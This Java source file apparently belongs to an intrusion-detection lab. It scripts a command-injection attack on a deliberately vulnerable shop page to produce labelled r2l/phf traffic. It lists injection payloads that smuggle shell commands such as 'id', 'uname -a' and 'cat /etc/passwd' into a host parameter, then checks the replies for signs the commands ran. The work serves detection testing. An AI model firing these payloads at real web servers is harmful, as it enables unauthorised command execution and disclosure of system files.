package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.LabException;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.scenario.Tools;
import gatewatch.sensor.lab.service.VulnWebApp;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

/**
 * An attacker probing the shop's "host lookup" page for command injection by hand: one curl
 * per payload, each a harmless command run by the page's shell inside the server namespace
 * (id, uname, cat /etc/passwd, ls). Labelled r2l/phf: KDD's phf attack is this act (a shell
 * command smuggled in a CGI argument, typically {@code cat /etc/passwd}), by a remote user
 * gaining execution as the web server's user (r2l, not u2r: no privilege is raised).
 */
public final class R2lCommandInjection extends WebAttackScenario {
    /** The injected arguments of {@code host}, in order; the page runs {@code getent hosts ARG}. */
    static final List<String> PAYLOADS = List.of("localhost", "localhost;id", "localhost && uname -a",
            "localhost|cat /etc/passwd", "x;echo $(whoami)", "localhost;ls -la /", "localhost;cat /etc/passwd | /bin/sh -c wc",
            "`id`;echo pwned");

    public R2lCommandInjection() {
        super(TruthCategory.R2L, "phf");
    }

    @Override
    public String name() {
        return "r2l-command-injection";
    }

    @Override
    public String summary() {
        return "r2l/phf: " + PAYLOADS.size() + " curl requests injecting shell commands into the shop's host lookup page (php-fpm); customers (normal)";
    }

    @Override
    List<Tool> attackTools() {
        return List.of(Tools.CURL);
    }

    @Override
    void attack(LabRun lab, VulnWebApp app, String attacker) {
        long injected = 0;
        for (int i = 0; i < PAYLOADS.size(); i++) {
            String out = lab.client("inject" + i, Duration.ofSeconds(20), List.of(lab.path(Tools.CURL), "-sS",
                    "--interface", attacker, url(lab, PAYLOADS.get(i)))).requireOk().output();
            if (ran(out)) {
                injected++;
            }
            lab.pause(Duration.ofMillis(400), Duration.ofMillis(2000));
        }
        if (injected == 0) {
            throw new LabException("no injected command ran: the lookup page is not vulnerable as meant");
        }
        lab.report("requests", PAYLOADS.size());
        lab.report("injections_that_ran", injected);
    }

    /** Whether a reply shows the output of an injected command. */
    static boolean ran(String reply) {
        return List.of("uid=", "root:x:0:0", "Linux", "pwned", "total ", "<pre>root").stream().anyMatch(reply::contains)
                || reply.matches("(?s).*\\s\\d+\\s+\\d+\\s+\\d+\\s*</pre>.*");
    }

    static String url(LabRun lab, String payload) {
        return VulnWebApp.url(lab) + "/lookup.php?host=" + URLEncoder.encode(payload, StandardCharsets.UTF_8);
    }
}
